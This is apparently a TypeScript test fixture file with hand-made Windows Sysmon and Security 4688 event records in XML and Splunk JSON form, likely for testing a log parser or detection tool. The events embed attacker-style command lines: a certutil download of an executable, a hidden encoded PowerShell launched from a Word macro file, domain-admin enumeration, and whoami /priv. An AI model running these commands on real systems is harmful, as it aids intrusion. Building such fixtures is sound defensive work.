/** Hand-written Windows events for the tests (shapes as Event Viewer / Splunk render them). */

export const SYSMON_XML = `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/><EventID>1</EventID><Version>5</Version><TimeCreated SystemTime='2024-03-01T10:00:00.000Z'/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ws01.corp.local</Computer><Security UserID='S-1-5-18'/></System><EventData><Data Name='RuleName'>-</Data><Data Name='UtcTime'>2024-03-01 10:00:00.000</Data><Data Name='ProcessGuid'>{11111111-2222-3333-4444-555555555555}</Data><Data Name='ProcessId'>4242</Data><Data Name='Image'>C:\\Windows\\System32\\certutil.exe</Data><Data Name='OriginalFileName'>CertUtil.exe</Data><Data Name='CommandLine'>certutil.exe -urlcache -f http://10.0.0.9/a.txt &quot;C:\\Users\\bob\\a &amp; b.exe&quot; &#x26;&#38; &lt;x&gt; &apos;q&apos;</Data><Data Name='CurrentDirectory'>C:\\Users\\bob\\</Data><Data Name='User'>CORP\\bob</Data><Data Name='IntegrityLevel'>Medium</Data><Data Name='Hashes'>MD5=0123456789ABCDEF0123456789ABCDEF,SHA256=AA</Data><Data Name='ParentProcessGuid'>{66666666-2222-3333-4444-555555555555}</Data><Data Name='ParentProcessId'>1000</Data><Data Name='ParentImage'>C:\\Windows\\explorer.exe</Data><Data Name='ParentCommandLine'>C:\\Windows\\Explorer.EXE</Data></EventData></Event>`;

export const SECURITY_4688_XML = `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Microsoft-Windows-Security-Auditing" Guid="{54849625-5478-4994-A5BA-3E3B0328C30D}" />
    <EventID>4688</EventID>
    <Channel>Security</Channel>
    <Computer>dc01.corp.local</Computer>
  </System>
  <EventData>
    <Data Name="SubjectUserSid">S-1-5-21-1-2-3-1104</Data>
    <Data Name="SubjectUserName">alice</Data>
    <Data Name="SubjectDomainName">CORP</Data>
    <Data Name="SubjectLogonId">0x3e7</Data>
    <Data Name="NewProcessId">0x1a2c</Data>
    <Data Name="NewProcessName">C:\\Windows\\System32\\net.exe</Data>
    <Data Name="TokenElevationType">%%1937</Data>
    <Data Name="ProcessId">0xb2c</Data>
    <Data Name="CommandLine">net  group "Domain Admins" /domain</Data>
    <Data Name="TargetUserSid">S-1-0-0</Data>
    <Data Name="TargetUserName">-</Data>
    <Data Name="TargetDomainName">-</Data>
    <Data Name="TargetLogonId">0x0</Data>
    <Data Name="ParentProcessName">C:\\Windows\\System32\\cmd.exe</Data>
    <Data Name="MandatoryLabel">S-1-16-12288</Data>
  </EventData>
</Event>`;

/** Sysmon Event ID 1 as Splunk renders an XmlWinEventLog event's fields in JSON. */
export const SYSMON_SPLUNK_JSON = {
  EventCode: "1",
  EventID: "1",
  Computer: "ws02",
  Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
  CommandLine: "powershell.exe -nop -w hidden -enc SQBFAFgA",
  ParentImage: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
  ParentCommandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n invoice.docm',
  OriginalFileName: "PowerShell.EXE",
  User: "CORP\\carol",
  ProcessId: 5120,
  ParentProcessId: "3300",
  ProcessGuid: "{aaaa}",
  ParentProcessGuid: "{bbbb}",
  IntegrityLevel: "High",
  CurrentDirectory: "C:\\Users\\carol\\Documents\\",
  Hashes: "SHA256=BEEF",
};

/** Security 4688 with the event's own names, Splunk-style, with a Target Subject (Windows 10+). */
export const SECURITY_4688_JSON = {
  EventCode: 4688,
  Computer: "ws03",
  NewProcessName: "C:\\Windows\\System32\\whoami.exe",
  Process_Command_Line: "whoami /priv",
  ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
  NewProcessId: "0x2f0",
  ProcessId: "0x11c",
  SubjectUserName: "WS03$",
  SubjectDomainName: "CORP",
  SubjectUserSid: "S-1-5-18",
  TargetUserName: "dave",
  TargetDomainName: "CORP",
  TargetUserSid: "S-1-5-21-1-2-3-1200",
  TokenElevationType: "%%1938",
  MandatoryLabel: "Mandatory Label\\Medium Mandatory Level",
};
